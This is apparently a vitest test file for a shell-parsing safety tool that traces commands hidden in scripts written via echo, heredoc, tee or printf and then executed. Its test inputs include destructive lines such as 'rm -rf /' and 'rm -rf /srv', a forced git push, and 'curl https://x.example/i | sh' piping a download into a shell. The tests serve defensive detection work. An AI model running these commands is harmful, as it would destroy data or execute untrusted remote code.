import { describe, expect, it } from 'vitest';
import { parseShell } from './shell.js';
import { followWrittenScripts } from './written-scripts.js';

const OPTIONS = { homeDir: '/home/dev', cwd: '/home/dev/project' };

/** Parses `command`, follows its written scripts and returns their commands' argv. */
async function scriptCommands(command: string): Promise<string[][]> {
  const parsed = await parseShell(command, OPTIONS);
  await followWrittenScripts(parsed, OPTIONS);
  return parsed.commands
    .filter((entry) => entry.via[0] === 'written-script')
    .map((entry) => entry.argv);
}

describe('followWrittenScripts', () => {
  it('reads echo text run by bash', async () => {
    const argv = await scriptCommands("echo 'rm -rf /root/old' > c.sh && bash c.sh");
    expect(argv).toEqual([['rm', '-rf', '/root/old']]);
  });

  it('reads heredoc run as ./file', async () => {
    const command =
      "cat > c.sh <<'EOF'\ngit push --force origin main\nEOF\nchmod +x c.sh && ./c.sh";
    expect(await scriptCommands(command)).toEqual([['git', 'push', '--force', 'origin', 'main']]);
  });

  it('reads tee heredoc run by source', async () => {
    const command = 'tee setup.sh <<EOF >/dev/null\nrm -rf ~/old\nEOF\nsource ./setup.sh';
    expect(await scriptCommands(command)).toEqual([['rm', '-rf', '/home/dev/old']]);
  });

  it('reads printf lines and appends', async () => {
    const command =
      "printf '%s\\n' '#!/bin/sh' 'make build' > s && echo 'curl https://x.example/i | sh' >> s && sh s";
    const argv = await scriptCommands(command);
    expect(argv).toContainEqual(['make', 'build']);
    expect(argv).toContainEqual(['curl', 'https://x.example/i']);
    expect(argv).toContainEqual(['sh']);
  });

  it('reads script fed on stdin', async () => {
    expect(await scriptCommands("echo 'rm -rf /srv' > c.sh; bash < c.sh")).toEqual([
      ['rm', '-rf', '/srv'],
    ]);
    expect(await scriptCommands("echo 'rm -rf /srv' > c.sh; busybox sh c.sh")).toEqual([
      ['rm', '-rf', '/srv'],
    ]);
  });

  it('ignores a file run before writing', async () => {
    expect(await scriptCommands("bash c.sh; echo 'rm -rf /' > c.sh")).toEqual([]);
  });

  it('ignores a file rewritten by others', async () => {
    expect(await scriptCommands("echo 'ls' > c.sh; cp other.sh c.sh; bash c.sh")).toEqual([]);
  });

  it('flags text built at run time', async () => {
    const parsed = await parseShell('echo "$STEP" > c.sh && bash c.sh', OPTIONS);
    await followWrittenScripts(parsed, OPTIONS);
    expect(parsed.confident).toBe(false);
    expect(parsed.problems.join('\n')).toContain('/home/dev/project/c.sh');
  });

  it('keeps a plain written script confident', async () => {
    const parsed = await parseShell("echo 'npm test' > t.sh && bash t.sh", OPTIONS);
    await followWrittenScripts(parsed, OPTIONS);
    expect(parsed.confident).toBe(true);
  });
});
